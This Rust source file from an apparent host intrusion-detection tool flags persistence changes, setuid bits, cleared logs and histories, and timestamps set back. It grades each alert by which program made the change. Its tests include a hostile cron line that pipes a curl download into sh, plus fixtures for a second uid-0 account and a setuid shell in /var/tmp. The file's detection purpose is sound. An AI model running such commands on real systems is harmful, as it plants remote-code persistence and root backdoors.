//! Files: persistence (keys, accounts, cron, units, the loader, PAM, sshd's and sudo's
//! configuration, shell start-up files, init scripts, system programs, kernel modules),
//! privilege (setuid bits) and covered tracks (logs and histories emptied or removed, times set
//! back). Severity from who made the change: a package manager or its scripts → info; an
//! administration tool (`useradd`, `passwd`, `crontab`, `visudo`, `systemctl`) → medium at
//! most; by hand from an ssh session or a network service → the rule's own (high); a service
//! or a scheduled job → medium. What a change says can raise it back: an account given uid 0,
//! a command that downloads and runs, a setuid shell.
use super::Hit;
use crate::{
    detect::{
        lineage::{Context, Lineage},
        rules::{Rule, Severity},
        suspicious,
    },
    files::{Action, FileChange, Watch},
    pipeline::record::{Record, What},
    render::text,
};

/// The families of file change the rules look for (one detector each).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum FileRule {
    AuthorizedKeys,
    Account,
    Sudoers,
    Cron,
    SystemdUnit,
    Preload,
    Pam,
    SshdConfig,
    ShellStartup,
    InitScript,
    SystemProgram,
    KernelModule,
    Setuid,
    LogsCleared,
    HistoryCleared,
    TimesSetBack,
    /// A kernel module loaded (a `module_load` record, not a file).
    ModuleLoaded,
}

impl FileRule {
    pub const ALL: [FileRule; 17] = [
        FileRule::AuthorizedKeys,
        FileRule::Account,
        FileRule::Sudoers,
        FileRule::Cron,
        FileRule::SystemdUnit,
        FileRule::Preload,
        FileRule::Pam,
        FileRule::SshdConfig,
        FileRule::ShellStartup,
        FileRule::InitScript,
        FileRule::SystemProgram,
        FileRule::KernelModule,
        FileRule::Setuid,
        FileRule::LogsCleared,
        FileRule::HistoryCleared,
        FileRule::TimesSetBack,
        FileRule::ModuleLoaded,
    ];

    pub fn name(self) -> &'static str {
        match self {
            FileRule::AuthorizedKeys => "authorized_keys_changed",
            FileRule::Account => "account_changed",
            FileRule::Sudoers => "sudoers_changed",
            FileRule::Cron => "cron_changed",
            FileRule::SystemdUnit => "systemd_unit_changed",
            FileRule::Preload => "loader_preload_changed",
            FileRule::Pam => "pam_changed",
            FileRule::SshdConfig => "sshd_config_changed",
            FileRule::ShellStartup => "shell_startup_changed",
            FileRule::InitScript => "init_script_changed",
            FileRule::SystemProgram => "system_program_replaced",
            FileRule::KernelModule => "kernel_module_written",
            FileRule::Setuid => "setuid_set",
            FileRule::LogsCleared => "logs_cleared",
            FileRule::HistoryCleared => "history_cleared",
            FileRule::TimesSetBack => "times_set_back",
            FileRule::ModuleLoaded => "kernel_module_loaded",
        }
    }

    /// The watched family a persistence rule is about.
    fn watch(self) -> Option<Watch> {
        Some(match self {
            FileRule::AuthorizedKeys => Watch::AuthorizedKeys,
            FileRule::Account => Watch::Accounts,
            FileRule::Sudoers => Watch::Sudoers,
            FileRule::Cron => Watch::Cron,
            FileRule::SystemdUnit => Watch::Systemd,
            FileRule::Preload => Watch::Loader,
            FileRule::Pam => Watch::Pam,
            FileRule::SshdConfig => Watch::SshdConfig,
            FileRule::ShellStartup => Watch::ShellStartup,
            FileRule::InitScript => Watch::Init,
            FileRule::SystemProgram => Watch::SystemPrograms,
            FileRule::KernelModule => Watch::KernelModules,
            FileRule::Setuid
            | FileRule::ModuleLoaded
            | FileRule::LogsCleared
            | FileRule::HistoryCleared
            | FileRule::TimesSetBack => return None,
        })
    }
}

/// Package managers: what they (and the maintainer scripts they run) change is an install.
const PACKAGE_MANAGERS: [&str; 12] = [
    "dpkg",
    "apt",
    "apt-get",
    "aptitude",
    "unattended-upgrade",
    "unattended-upgr",
    "rpm",
    "yum",
    "dnf",
    "snapd",
    "packagekitd",
    "dpkg-deb",
];

/// Administration tools that change these files for their user, each its own way.
const ADMIN_TOOLS: [&str; 27] = [
    "passwd",
    "chpasswd",
    "chsh",
    "chfn",
    "chage",
    "useradd",
    "usermod",
    "userdel",
    "adduser",
    "deluser",
    "groupadd",
    "groupmod",
    "groupdel",
    "addgroup",
    "delgroup",
    "gpasswd",
    "newusers",
    "vipw",
    "vigr",
    "visudo",
    "crontab",
    "systemctl",
    "update-alternatives",
    "ldconfig",
    "pam-auth-update",
    "ssh-keygen",
    "ssh-copy-id",
];

/// Tools that change only their own user's entry (a password, a shell).
const SELF_SERVICE: [&str; 4] = ["passwd", "chsh", "chfn", "chage"];

/// Programs whose rotation and clean-up of logs is their job.
const LOG_KEEPERS: [&str; 6] = [
    "logrotate",
    "rsyslogd",
    "syslog-ng",
    "systemd-journald",
    "journalctl",
    "savelog",
];

/// Who made a change, for its severity.
enum Actor {
    Package(String),
    Tool(String),
    ByHand(&'static str),
    Service,
}

fn actor(r: &Record, lineage: &dyn Lineage) -> Actor {
    let cx = Context::of(r, lineage);
    if let Some(p) = cx
        .names
        .iter()
        .find(|n| PACKAGE_MANAGERS.contains(&n.as_str()))
    {
        return Actor::Package(p.clone());
    }
    // the tool itself, or the script it is (`ssh-copy-id` runs as `sh ssh-copy-id`)
    let name = text::lossy(r.process.name());
    let script = r
        .process
        .args()
        .get(1)
        .map(|a| suspicious::program_name(&text::lossy(a)).to_owned());
    for n in std::iter::once(&name).chain(script.as_ref()) {
        if ADMIN_TOOLS.contains(&n.as_str()) {
            return Actor::Tool(n.clone());
        }
    }
    if cx.ssh_session {
        return Actor::ByHand("by hand from an ssh session");
    }
    if r.session.is_some() {
        return Actor::ByHand("from a login session");
    }
    Actor::Service
}

fn change_of(r: &Record) -> Option<&FileChange> {
    match &r.what {
        What::File(f) => Some(f),
        _ => None,
    }
}

fn path(c: &FileChange) -> String {
    c.path.to_string_lossy().into_owned()
}

/// "by NAME (pid N)".
fn by(r: &Record) -> String {
    format!("{} (pid {})", text::lossy(r.process.name()), r.process.pid)
}

/// What the change did, in words.
fn did(c: &FileChange) -> String {
    let what = match c.action {
        Action::Write => "written",
        Action::Create => "created",
        Action::Rename => "replaced by a rename",
        Action::Delete => "deleted",
        Action::Truncate => "emptied",
        Action::Chmod => "given new permissions",
        Action::Timestamp => "had its times set back",
    };
    let mut s = format!("{} {what}", path(c));
    if let (Action::Rename, Some(old)) = (c.action, &c.old_path) {
        s = format!("{} replaced by {}", path(c), old.to_string_lossy());
    }
    if !c.notes.is_empty() {
        s.push_str(": ");
        s.push_str(&c.notes.join("; "));
    }
    s
}

/// The severity of a persistence change in context, and why.
fn in_context(
    rule: &Rule,
    r: &Record,
    c: &FileChange,
    lineage: &dyn Lineage,
) -> (Severity, String) {
    let (mut severity, mut why) = match actor(r, lineage) {
        Actor::Package(p) => (Severity::Info, format!("made by a package manager ({p})")),
        Actor::Tool(t) if SELF_SERVICE.contains(&t.as_str()) => (
            Severity::Low,
            format!("made by {t}, which changes one account's entry"),
        ),
        Actor::Tool(t) => (
            rule.severity.min(Severity::Medium),
            format!("made by an administration tool ({t})"),
        ),
        Actor::ByHand(how) => (rule.severity, format!("made {how}")),
        Actor::Service => (
            rule.severity.min(Severity::Medium),
            "made by a service or a scheduled job".to_owned(),
        ),
    };
    if !c.uid0_accounts.is_empty() && severity < Severity::High {
        severity = Severity::High;
        why = format!("{why}; it gives uid 0 to {}", c.uid0_accounts.join(", "));
    }
    if !c.hostile.is_empty() && severity < Severity::High {
        severity = Severity::High;
        why = format!("{why}; it adds a command that looks like an intruder's");
    }
    (severity, why)
}

/// A create whose file is still empty says nothing yet: its write follows.
fn empty_create(c: &FileChange) -> bool {
    c.action == Action::Create && c.stat.is_some_and(|s| s.is_file() && s.size == 0)
}

pub fn judge(kind: FileRule, rule: &Rule, r: &Record, lineage: &dyn Lineage) -> Option<Hit> {
    if kind == FileRule::ModuleLoaded {
        return module_loaded(rule, r, lineage);
    }
    let c = change_of(r)?;
    match kind {
        FileRule::Setuid => setuid(rule, r, c, lineage),
        FileRule::LogsCleared => evidence(rule, r, c, Watch::Logs, lineage),
        FileRule::HistoryCleared => evidence(rule, r, c, Watch::History, lineage),
        FileRule::TimesSetBack => times_set_back(rule, r, c, lineage),
        _ => persistence(kind, rule, r, c, lineage),
    }
}

fn persistence(
    kind: FileRule,
    rule: &Rule,
    r: &Record,
    c: &FileChange,
    lineage: &dyn Lineage,
) -> Option<Hit> {
    if Some(c.watch) != kind.watch() || empty_create(c) {
        return None;
    }
    // attribute changes have rules of their own; a library's symlink farm is not a binary
    if matches!(c.action, Action::Chmod | Action::Timestamp) {
        return None;
    }
    match kind {
        // a program or library replaced; a new one is an install (its run is judged at exec)
        FileRule::SystemProgram
            if !matches!(c.action, Action::Write | Action::Rename) || c.new_file =>
        {
            return None;
        }
        // the service manager writes transient units of its own
        FileRule::SystemdUnit if text::lossy(r.process.name()) == "systemd" => return None,
        _ => {}
    }
    let (severity, why) = in_context(rule, r, c, lineage);
    Some(Hit {
        severity,
        message: format!("{} by {}", did(c), by(r)),
        reason: Some(why),
    })
}

fn setuid(rule: &Rule, r: &Record, c: &FileChange, lineage: &dyn Lineage) -> Option<Hit> {
    let bits = c.set_id_bits_set();
    if bits == 0 {
        return None;
    }
    let which = match (bits & libc::S_ISUID != 0, bits & libc::S_ISGID != 0) {
        (true, true) => "setuid and setgid bits",
        (true, false) => "setuid bit",
        _ => "setgid bit",
    };
    let (mut severity, mut why) = in_context(rule, r, c, lineage);
    let name = c
        .path
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_default();
    let owner_root = c.stat.is_some_and(|s| s.uid == 0);
    if suspicious::is_shell(&name) || suspicious::is_interpreter(&name) {
        severity = severity.max(Severity::High);
        why = format!(
            "{why}; a {} of root's is a root shell for anyone",
            if owner_root {
                "setuid shell"
            } else {
                "setuid interpreter"
            }
        );
    } else if suspicious::in_tmp_dir(c.path.as_os_str().as_encoded_bytes()) {
        severity = severity.max(Severity::High);
        why = format!("{why}; in a world-writable directory");
    }
    Some(Hit {
        severity,
        message: format!("{which} set on {} by {}", path(c), by(r)),
        reason: Some(why),
    })
}

fn evidence(
    rule: &Rule,
    r: &Record,
    c: &FileChange,
    watch: Watch,
    lineage: &dyn Lineage,
) -> Option<Hit> {
    let moved_away = c.action == Action::Rename
        && c.old_path
            .as_ref()
            .is_some_and(|o| o.file_name() != c.path.file_name());
    let replaced_by_link = matches!(c.action, Action::Create | Action::Rename)
        && c.stat.is_some_and(|s| s.kind() == "symlink");
    let cleared = match c.action {
        Action::Truncate | Action::Delete => true,
        Action::Rename => moved_away || replaced_by_link,
        Action::Create => replaced_by_link,
        // appending someone else's lines to a log
        Action::Write => watch == Watch::Logs && !c.appended,
        Action::Chmod | Action::Timestamp => false,
    };
    if c.watch != watch || !cleared {
        return None;
    }
    // logrotate's gzip compressing a rotated log is logrotate's doing
    let keeper = Context::of(r, lineage)
        .names
        .iter()
        .any(|n| LOG_KEEPERS.contains(&n.as_str()));
    if watch == Watch::Logs && keeper {
        return None;
    }
    let what = if replaced_by_link {
        format!(
            "{} replaced by a link to {}",
            path(c),
            c.link_target
                .as_ref()
                .map_or_else(|| "?".into(), |t| t.to_string_lossy().into_owned())
        )
    } else {
        did(c)
    };
    let (severity, why) = in_context(rule, r, c, lineage);
    Some(Hit {
        severity,
        message: format!("{what} by {}", by(r)),
        reason: Some(why),
    })
}

fn times_set_back(rule: &Rule, r: &Record, c: &FileChange, lineage: &dyn Lineage) -> Option<Hit> {
    if c.action != Action::Timestamp {
        return None;
    }
    let (severity, why) = in_context(rule, r, c, lineage);
    let to = c
        .stat
        .map(|s| crate::clock::format_epoch_ns(s.mtime))
        .unwrap_or_default();
    Some(Hit {
        severity,
        message: format!(
            "{} had its modification time set back to {to} by {}",
            path(c),
            by(r)
        ),
        reason: Some(why),
    })
}

/// The kernel's taint bits for a module from outside the kernel's tree, or unsigned.
const TAINT_OOT_MODULE: u32 = 1 << 12;
const TAINT_UNSIGNED_MODULE: u32 = 1 << 13;

fn module_loaded(rule: &Rule, r: &Record, lineage: &dyn Lineage) -> Option<Hit> {
    let What::Module(m) = &r.what else {
        return None;
    };
    let name = text::lossy(&m.name);
    let (mut severity, mut why) = match actor(r, lineage) {
        Actor::Package(p) => (Severity::Info, format!("loaded by a package manager ({p})")),
        Actor::Tool(t) => (
            Severity::Medium.min(rule.severity),
            format!("loaded by {t}"),
        ),
        Actor::ByHand(how) => (rule.severity, format!("loaded {how}")),
        // udev and systemd-modules-load load drivers as hardware and configuration ask
        Actor::Service => (
            Severity::Low,
            "loaded by the system (udev, systemd)".to_owned(),
        ),
    };
    let mut odd = Vec::new();
    if m.taints & TAINT_OOT_MODULE != 0 {
        odd.push("built outside the kernel's tree");
    }
    if m.taints & TAINT_UNSIGNED_MODULE != 0 {
        odd.push("unsigned");
    }
    if !odd.is_empty() {
        severity = severity.max(Severity::High);
        why = format!("{why}; the module is {}", odd.join(" and "));
    }
    Some(Hit {
        severity,
        message: format!("kernel module {name} loaded by {}", by(r)),
        reason: Some(why),
    })
}

#[cfg(test)]
mod tests {
    use std::path::PathBuf;

    use crate::{
        detect::{
            alerts::{tests::record, Alerts},
            lineage::Unknown,
            rules::Rules,
        },
        files::{Action, FileChange, Stat, Watch},
        pipeline::record::What,
    };

    fn change(action: Action, path: &str, watch: Watch) -> FileChange {
        let mut c = FileChange::new(action, PathBuf::from(path), watch);
        c.stat = Some(Stat {
            mode: libc::S_IFREG | 0o644,
            uid: 0,
            gid: 0,
            size: 10,
            mtime: 0,
            ctime: 0,
            inode: 1,
            device: 1,
        });
        c
    }

    /// (rule, severity) of what `exe` doing `c` raises.
    fn raised(c: FileChange, exe: &str) -> Vec<(String, &'static str)> {
        let name = exe.rsplit('/').next().unwrap_or(exe);
        let r = record(What::File(Box::new(c)), exe, &[name]);
        let mut a = Alerts::new(Rules::built_in().unwrap(), None);
        a.observe(&r, std::time::Duration::ZERO, &Unknown)
            .into_iter()
            .map(|a| (a.rule.name.clone(), a.severity.name()))
            .collect()
    }

    #[test]
    fn severity_follows_who_made_the_change() {
        let keys = || {
            change(
                Action::Write,
                "/home/a/.ssh/authorized_keys",
                Watch::AuthorizedKeys,
            )
        };
        let rule = "authorized_keys_changed".to_owned();
        assert_eq!(raised(keys(), "/usr/bin/dpkg"), [(rule.clone(), "info")]);
        assert_eq!(
            raised(keys(), "/usr/bin/ssh-copy-id"),
            [(rule.clone(), "medium")]
        );
        // no login and no tool: a service or a job, medium
        assert_eq!(raised(keys(), "/usr/bin/python3"), [(rule, "medium")]);
        let mut passwd = change(Action::Rename, "/etc/passwd", Watch::Accounts);
        assert_eq!(
            raised(passwd.clone(), "/usr/bin/passwd"),
            [("account_changed".to_owned(), "low")]
        );
        // whoever does it, a second uid 0 is high
        passwd.uid0_accounts = vec!["toor".into()];
        assert_eq!(
            raised(passwd, "/usr/sbin/useradd"),
            [("account_changed".to_owned(), "high")]
        );
        let mut cron = change(Action::Create, "/etc/cron.d/x", Watch::Cron);
        cron.hostile = vec!["a download (curl): * * * * * root curl x | sh".into()];
        assert_eq!(
            raised(cron, "/usr/bin/crontab"),
            [("cron_changed".to_owned(), "high")]
        );
    }

    #[test]
    fn an_empty_create_waits_for_its_write_and_a_new_program_is_an_install() {
        let mut empty = change(Action::Create, "/etc/cron.d/x", Watch::Cron);
        if let Some(s) = &mut empty.stat {
            s.size = 0;
        }
        assert!(raised(empty, "/bin/bash").is_empty());
        let new_program = change(Action::Create, "/usr/local/bin/tool", Watch::SystemPrograms);
        assert!(raised(new_program, "/usr/bin/install").is_empty());
        // its creator filling a new file: part of the creation
        let mut filled = change(Action::Write, "/usr/local/bin/tool", Watch::SystemPrograms);
        filled.new_file = true;
        assert!(raised(filled, "/usr/bin/cp").is_empty());
        let replaced = change(Action::Write, "/usr/bin/ls", Watch::SystemPrograms);
        assert_eq!(
            raised(replaced, "/usr/bin/cp"),
            [("system_program_replaced".to_owned(), "medium")]
        );
    }

    #[test]
    fn logs_kept_by_their_keepers_are_not_cleared() {
        let t = || change(Action::Truncate, "/var/log/auth.log", Watch::Logs);
        assert!(raised(t(), "/usr/sbin/logrotate").is_empty());
        assert_eq!(
            raised(t(), "/usr/bin/truncate"),
            [("logs_cleared".to_owned(), "medium")]
        );
        let mut appended = change(Action::Write, "/var/log/auth.log", Watch::Logs);
        appended.appended = true;
        assert!(raised(appended, "/usr/bin/logger").is_empty());
        let history = change(Action::Delete, "/root/.bash_history", Watch::History);
        assert_eq!(
            raised(history, "/bin/rm"),
            [("history_cleared".to_owned(), "medium")]
        );
    }

    /// A parent of every process: `exe`.
    struct Parent(&'static str);

    impl crate::detect::lineage::Lineage for Parent {
        fn ancestors(&self, _: u32) -> Vec<(u32, std::sync::Arc<crate::state::proctable::Image>)> {
            vec![(
                7,
                std::sync::Arc::new(crate::state::proctable::Image {
                    executable: self.0.into(),
                    ..Default::default()
                }),
            )]
        }
    }

    #[test]
    fn logrotate_compressing_a_rotated_log_is_no_clearing() {
        let gone = change(Action::Delete, "/var/log/auth.log.1", Watch::Logs);
        let mut r = record(What::File(Box::new(gone)), "/usr/bin/gzip", &["gzip"]);
        r.process.ppid = 7;
        let mut a = Alerts::new(Rules::built_in().unwrap(), None);
        let by_logrotate = a.observe(
            &r,
            std::time::Duration::ZERO,
            &Parent("/usr/sbin/logrotate"),
        );
        assert!(by_logrotate.is_empty());
        let by_hand = a.observe(&r, std::time::Duration::ZERO, &Parent("/usr/bin/bash"));
        assert_eq!(by_hand.len(), 1);
    }

    #[test]
    fn a_setuid_shell_is_high_wherever_it_is_and_whoever_made_it() {
        let mut c = change(Action::Chmod, "/var/tmp/x/sh", Watch::Elsewhere);
        c.stat = c.stat.map(|s| Stat {
            mode: libc::S_IFREG | 0o4755,
            ..s
        });
        assert_eq!(
            raised(c.clone(), "/bin/chmod"),
            [("setuid_set".to_owned(), "high")]
        );
        // a bit it already had is no news
        c.previous = c.stat;
        assert!(raised(c, "/bin/chmod").is_empty());
    }
}
